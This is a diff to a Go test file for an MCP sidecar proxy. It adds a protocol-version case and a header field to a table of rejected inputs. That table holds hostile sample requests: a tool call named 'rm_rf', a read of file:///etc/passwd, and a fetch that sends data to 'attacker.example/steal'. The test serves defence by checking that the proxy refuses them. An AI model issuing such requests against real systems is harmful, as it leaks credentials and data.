@@ -35,29 +35,34 @@ func TestBadInput(t *testing.T) {
 		wantErr    string // in the JSON-RPC error message or the tool error text
 		wantKind   string
 		wantName   string
+		hdr        map[string]string
 	}{
-		{"malformed JSON", `{"jsonrpc":"2.0","id":1,"method":"tools/call",`, 400, "parse error", KindInvalid, ""},
-		{"not JSON-RPC at all", `hello`, 400, "parse error", KindInvalid, ""},
-		{"unknown tool", call(2, `{"name":"rm_rf","arguments":{}}`), 200, `unknown tool "rm_rf"`, KindToolCall, "rm_rf"},
-		{"unknown resource", `{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"file:///etc/passwd"}}`, 200, "not found", KindResourceRead, "file:///etc/passwd"},
-		{"wrong argument type", call(4, `{"name":"microsoft_docs_search","arguments":{"query":5}}`), 200, "validating", KindToolCall, "microsoft_docs_search"},
-		{"missing required argument", call(5, `{"name":"microsoft_code_sample_search","arguments":{"language":"csharp"}}`), 200, "validating", KindToolCall, "microsoft_code_sample_search"},
-		{"params of the wrong type", call(6, `{"name":5}`), 200, "invalid params", KindToolCall, "5"},
-		{"params missing", `{"jsonrpc":"2.0","id":7,"method":"tools/call"}`, 200, "requires \"params\"", KindToolCall, ""},
-		{"call without id", `{"jsonrpc":"2.0","method":"tools/call","params":{"name":"get_html_element_name"}}`, 400, "must carry an id", KindToolCall, "get_html_element_name"},
-		{"fetch URL on another host", call(8, `{"name":"microsoft_docs_fetch","arguments":{"url":"https://attacker.example/steal?d=1"}}`), 200, "only pages on 127.0.0.1", KindToolCall, "microsoft_docs_fetch"},
-		{"fetch URL over http", call(9, `{"name":"microsoft_docs_fetch","arguments":{"url":"http://127.0.0.1/x"}}`), 200, "only https", KindToolCall, "microsoft_docs_fetch"},
-		{"oversized body", call(10, `{"name":"microsoft_docs_search","arguments":{"query":"`+strings.Repeat("a", 70<<10)+`"}}`), 413, "exceeds 65536 bytes", KindInvalid, ""},
+		{"malformed JSON", `{"jsonrpc":"2.0","id":1,"method":"tools/call",`, 400, "parse error", KindInvalid, "", nil},
+		{"not JSON-RPC at all", `hello`, 400, "parse error", KindInvalid, "", nil},
+		{"unknown tool", call(2, `{"name":"rm_rf","arguments":{}}`), 200, `unknown tool "rm_rf"`, KindToolCall, "rm_rf", nil},
+		{"unknown resource", `{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"file:///etc/passwd"}}`, 200, "not found", KindResourceRead, "file:///etc/passwd", nil},
+		{"wrong argument type", call(4, `{"name":"microsoft_docs_search","arguments":{"query":5}}`), 200, "validating", KindToolCall, "microsoft_docs_search", nil},
+		{"missing required argument", call(5, `{"name":"microsoft_code_sample_search","arguments":{"language":"csharp"}}`), 200, "validating", KindToolCall, "microsoft_code_sample_search", nil},
+		{"params of the wrong type", call(6, `{"name":5}`), 200, "invalid params", KindToolCall, "5", nil},
+		{"params missing", `{"jsonrpc":"2.0","id":7,"method":"tools/call"}`, 200, "requires \"params\"", KindToolCall, "", nil},
+		{"call without id", `{"jsonrpc":"2.0","method":"tools/call","params":{"name":"get_html_element_name"}}`, 400, "must carry an id", KindToolCall, "get_html_element_name", nil},
+		{"fetch URL on another host", call(8, `{"name":"microsoft_docs_fetch","arguments":{"url":"https://attacker.example/steal?d=1"}}`), 200, "only pages on 127.0.0.1", KindToolCall, "microsoft_docs_fetch", nil},
+		{"fetch URL over http", call(9, `{"name":"microsoft_docs_fetch","arguments":{"url":"http://127.0.0.1/x"}}`), 200, "only https", KindToolCall, "microsoft_docs_fetch", nil},
+		{"unsupported protocol version", call(11, `{"name":"get_html_element_name"}`), 400, "refused by the MCP transport before dispatch (HTTP 400)", KindToolCall, "get_html_element_name",
+			map[string]string{"Mcp-Protocol-Version": "2024-01-01"}},
+		{"oversized body", call(10, `{"name":"microsoft_docs_search","arguments":{"query":"`+strings.Repeat("a", 70<<10)+`"}}`), 413, "exceeds 65536 bytes", KindInvalid, "", nil},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
 			ts := startSidecar(t, Config{UpstreamURL: upURL, MaxBodyBytes: 64 << 10})
-			status, body := postRaw(t, ts.URL, tc.body, nil)
+			status, body := postRaw(t, ts.URL, tc.body, tc.hdr)
 			if status != tc.wantStatus {
 				t.Fatalf("status = %d, want %d; body %s", status, tc.wantStatus, body)
 			}
-			if msg := errorOf(t, body); !strings.Contains(msg, tc.wantErr) {
-				t.Fatalf("error = %q, want one containing %q", msg, tc.wantErr)
+			if tc.hdr == nil { // the SDK's own refusals are plain text
+				if msg := errorOf(t, body); !strings.Contains(msg, tc.wantErr) {
+					t.Fatalf("error = %q, want one containing %q", msg, tc.wantErr)
+				}
 			}
 			if err := ts.stop(); err != nil {
 				t.Fatal(err)
